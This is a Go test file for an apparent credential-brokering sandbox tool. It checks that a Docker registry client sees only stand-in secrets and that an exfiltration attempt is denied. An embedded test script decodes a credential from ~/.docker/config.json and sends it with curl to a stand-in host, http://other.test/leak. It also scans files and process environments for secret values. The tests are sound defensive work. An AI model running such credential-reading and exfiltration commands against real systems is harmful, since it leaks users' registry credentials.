package main

import (
	"crypto/tls"
	"encoding/base64"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/sysprof/sysprof/internal/testutil"
)

// dockerClient does what a registry client does with ~/.docker/config.json: the auth of
// registry.test as Basic, the identitytoken of token.test as Bearer, to their /v2/ APIs.
const dockerClient = `import base64, json, os, urllib.request
cfg = json.load(open(os.path.expanduser("~/.docker/config.json")))
def get(url, auth):
    with urllib.request.urlopen(urllib.request.Request(url, headers={"Authorization": auth}), timeout=30) as r:
        return r.status
a = cfg["auths"]["registry.test"]["auth"]
print("basic", get("https://registry.test/v2/lib/app/manifests/latest", "Basic " + a))
print("standin=" + base64.b64decode(a).decode().split(":", 1)[1])
print("bearer", get("https://token.test/v2/", "Bearer " + cfg["auths"]["token.test"]["identitytoken"]))
`

const dockerScript = `N=$1
/usr/bin/python3 client.py >client.log 2>&1; echo "client rc=$?"
S=$(sed -n 's/^standin=//p' client.log)
echo "standin=$S"
echo "files: $(grep -rlsF -e "$N" "$HOME" "$PWD" /etc /tmp /var /run /root /home /opt /srv /mnt /dev/shm | tr '\n' ' ')"
echo "environ: $(for f in /proc/[0-9]*/environ; do grep -lsaF -e "$N" "$f"; done | tr '\n' ' ')"
curl -sS -m 10 -o /dev/null -u "me:$S" http://other.test/leak 2>/dev/null; echo "exfil rc=$?"
`

// A registry client reads ~/.docker/config.json and talks to two registries' /v2/ APIs (TLS,
// a test CA the host trusts): the auth of one brokered as Basic, the identitytoken of the
// other as Bearer. Inside, config.json holds stand-ins only; the registries get the real
// values; the canary finds no trace of them; the stand-in sent elsewhere is refused.
func TestCredentialsDockerBrokered(t *testing.T) {
	brokeredRun(t, "docker credentials run", dockerInNetns, "curl", "python3")
}

func dockerInNetns(bin string) error {
	base, caFile, leaf, err := credsBase("sysprof-dockercreds-", "registry.test", "token.test")
	if err != nil {
		return err
	}
	defer os.RemoveAll(base)
	random := func() string { return randomSecret(32) }
	pass, token := random(), random()
	var mu sync.Mutex
	var saw, otherSaw []string
	ln, err := net.Listen("tcp", regAddr+":443")
	if err != nil {
		return err
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		a := r.Header.Get("Authorization")
		mu.Lock()
		saw = append(saw, r.Host+" "+r.Method+" "+r.URL.Path+" "+a)
		mu.Unlock()
		user, p, basic := r.BasicAuth()
		ok := r.Host == "registry.test" && basic && user == "me" && p == pass || r.Host == "token.test" && a == "Bearer "+token
		if !ok {
			w.Header().Set("WWW-Authenticate", `Basic realm="registry"`)
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		w.Header().Set("Docker-Distribution-Api-Version", "registry/2.0")
		switch r.URL.Path {
		case "/v2/":
			fmt.Fprint(w, "{}")
		case "/v2/lib/app/manifests/latest":
			w.Header().Set("Content-Type", "application/vnd.oci.image.manifest.v1+json")
			fmt.Fprint(w, `{"schemaVersion":2,"layers":[]}`)
		default:
			http.NotFound(w, r)
		}
	})}
	go srv.Serve(tls.NewListener(ln, &tls.Config{Certificates: []tls.Certificate{leaf}}))
	defer srv.Close()
	other, err := serveOther(&mu, &otherSaw)
	if err != nil {
		return err
	}
	defer other.Close()

	work, home := filepath.Join(base, "work"), filepath.Join(base, "home")
	os.MkdirAll(work, 0o755)
	os.MkdirAll(filepath.Join(home, ".docker"), 0o755)
	b64 := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	os.WriteFile(filepath.Join(home, ".docker", "config.json"), []byte(`{"auths": {
	"registry.test": {"auth": "`+b64("me:"+pass)+`"},
	"token.test": {"identitytoken": "`+token+`"},
	"elsewhere.example": {"auth": "`+b64("x:"+random())+`"}
}, "credsStore": "desktop"}
`), 0o600)
	os.WriteFile(filepath.Join(work, "client.py"), []byte(dockerClient), 0o644)
	os.WriteFile(filepath.Join(work, "prof.yaml"), []byte(brokerProfile("{name: registry-client, command: [python3], runs: 1, incomplete: false}", "",
		[]string{"registry.test:443", "token.test:443", "other.test:80"},
		[]string{"{file: $HOME/.docker/config.json, key: auths.registry.test.auth, hosts: [registry.test], how: basic}",
			"{file: $HOME/.docker/config.json, key: auths.token.test.identitytoken, hosts: [token.test], how: bearer}"})), 0o644)
	repFile := filepath.Join(base, "rep.json")
	needles := pass[4:20] + "\n" + token[4:20] // grep -F: either
	cmd := exec.Command(bin, "enforce", "-p", "prof.yaml", "--report", repFile, "--resolve", "registry.test="+regAddr,
		"--resolve", "token.test="+regAddr, "--resolve", "other.test="+regAddr, "--", "sh", "-c", dockerScript, "sh", needles)
	cmd.Dir = work
	cmd.Env = append(os.Environ(), "HOME="+home, "SSL_CERT_FILE="+caFile)
	outB, err := cmd.CombinedOutput()
	out := string(outB)
	clientLog, _ := os.ReadFile(filepath.Join(work, "client.log"))
	mu.Lock()
	server, oth := strings.Join(saw, "\n"), strings.Join(otherSaw, "\n")
	mu.Unlock()
	fail := func(f string, a ...any) error {
		return fmt.Errorf(f+"\noutput:\n%s\nclient.log:\n%s\nregistries saw:\n%s", append(a, out, clientLog, server)...)
	}
	if err != nil {
		return fail("enforce: %v", err)
	}
	standIn := ""
	for _, l := range strings.Split(out, "\n") {
		if s, ok := strings.CutPrefix(l, "standin="); ok {
			standIn = s
		}
	}
	switch {
	case !strings.Contains(out, "client rc=0") || !strings.Contains(string(clientLog), "basic 200") || !strings.Contains(string(clientLog), "bearer 200"):
		return fail("the registry client failed")
	case standIn == "" || standIn == pass:
		return fail("config.json inside holds no stand-in, or the real password (%q)", standIn)
	case !strings.Contains(out, "files: \n") || !strings.Contains(out, "environ: \n"):
		return fail("the canary found a real value")
	case !strings.Contains(out, "exfil rc=") || strings.Contains(out, "exfil rc=0") || strings.Contains(oth, standIn):
		return fail("the stand-in reached other.test:\n%s", oth)
	case !strings.Contains(server, "registry.test GET /v2/lib/app/manifests/latest Basic "+b64("me:"+pass)) ||
		!strings.Contains(server, "token.test GET /v2/ Bearer "+token) || strings.Contains(server, standIn):
		return fail("the registries did not get the real values (and only them)")
	}
	rep, _, err := readReportFile(repFile)
	if err != nil {
		return err
	}
	uses := map[string]bool{}
	for _, u := range rep.CredentialUses {
		if u.Status == 200 && strings.Contains(u.Binary, "python3") {
			uses[u.Credential+" "+u.Host+u.Path] = true
		}
	}
	if !uses["$HOME/.docker/config.json auths.registry.test.auth registry.test:443/v2/lib/app/manifests/latest"] ||
		!uses["$HOME/.docker/config.json auths.token.test.identitytoken token.test:443/v2/"] {
		return fail("uses: %+v", rep.CredentialUses)
	}
	if !standInDenied(rep, "$HOME/.docker/config.json auths.registry.test.auth") {
		return fail("no critical denial for the stand-in sent to other.test: %+v", rep.Denials)
	}
	return nil
}

// learn finds the flow (a registry client reads ~/.docker/config.json, whose auths entry names
// the loopback registry it then connects to) and writes a credentials rule; enforce then
// reaches the registry with the password brokered.
func TestCredentialsDockerLearnedLoopback(t *testing.T) {
	testutil.RequireRoot(t)
	testutil.RequireTool(t, "python3")
	bin, err := sysprofBinary()
	if err != nil {
		t.Fatal(err)
	}
	base := t.TempDir()
	work, home := filepath.Join(base, "work"), filepath.Join(base, "home")
	os.MkdirAll(work, 0o755)
	os.MkdirAll(filepath.Join(home, ".docker"), 0o755)
	pass := strings.Repeat("d0ck", 8)
	var mu sync.Mutex
	var saw []string
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		user, p, ok := r.BasicAuth()
		mu.Lock()
		saw = append(saw, fmt.Sprintf("%s %s %v %s:%s", r.Method, r.URL.Path, ok, user, p))
		mu.Unlock()
		if !ok || user != "me" || p != pass {
			w.Header().Set("WWW-Authenticate", `Basic realm="registry"`)
			w.WriteHeader(http.StatusUnauthorized)
			return
		}
		w.Header().Set("Docker-Distribution-Api-Version", "registry/2.0")
		fmt.Fprint(w, "{}")
	})}
	go srv.Serve(ln)
	defer srv.Close()
	reg := ln.Addr().String()
	testutil.WriteFile(t, filepath.Join(home, ".docker", "config.json"), `{"auths": {"`+reg+`": {"auth": "`+base64.StdEncoding.EncodeToString([]byte("me:"+pass))+`"}}}`, 0o600)
	testutil.WriteFile(t, filepath.Join(work, "client.py"), `import json, os, urllib.request
a = json.load(open(os.path.expanduser("~/.docker/config.json")))["auths"]["`+reg+`"]["auth"]
with urllib.request.urlopen(urllib.request.Request("http://`+reg+`/v2/", headers={"Authorization": "Basic " + a}), timeout=30) as r:
    print("status", r.status)
`, 0o644)
	run := func(args ...string) (string, error) {
		cmd := exec.Command(bin, args...)
		cmd.Dir = work
		cmd.Env = append(os.Environ(), "HOME="+home)
		out, err := cmd.CombinedOutput()
		return string(out), err
	}
	for range 2 {
		out, err := run("learn", "-p", "reg.yaml", "--", "/usr/bin/python3", "client.py")
		if err != nil || !strings.Contains(out, "status 200") {
			t.Fatalf("learn: %v\n%s", err, out)
		}
		if !strings.Contains(out, "credential flow(s) brokered") {
			t.Errorf("learn's review does not list the credential flow:\n%s", out)
		}
	}
	prof, _ := os.ReadFile(filepath.Join(work, "reg.yaml"))
	if !strings.Contains(string(prof), "credentials:\n  - {file: $HOME/.docker/config.json, key: \"auths."+reg+".auth\", hosts: [\""+reg+"\"], how: basic, by: /usr/bin/python3") {
		t.Fatalf("the learned profile has no credentials rule for %s:\n%s", reg, prof)
	}
	mu.Lock()
	saw = nil
	mu.Unlock()
	out, err := run("enforce", "-p", "reg.yaml", "--report", filepath.Join(base, "rep.json"), "--", "/usr/bin/python3", "client.py")
	if err != nil || !strings.Contains(out, "status 200") {
		t.Fatalf("enforce: %v\n%s", err, out)
	}
	mu.Lock()
	got := strings.Join(saw, "\n")
	mu.Unlock()
	if got != "GET /v2/ true me:"+pass {
		t.Errorf("the registry did not get the real password (once):\n%s", got)
	}
	rep := testutil.ReadReport(t, filepath.Join(base, "rep.json"))
	if len(rep.CredentialUses) != 1 || rep.CredentialUses[0].Status != 200 || rep.CredentialUses[0].Credential != "$HOME/.docker/config.json auths."+reg+".auth" {
		t.Errorf("uses: %+v\n%s", rep.CredentialUses, out)
	}
}
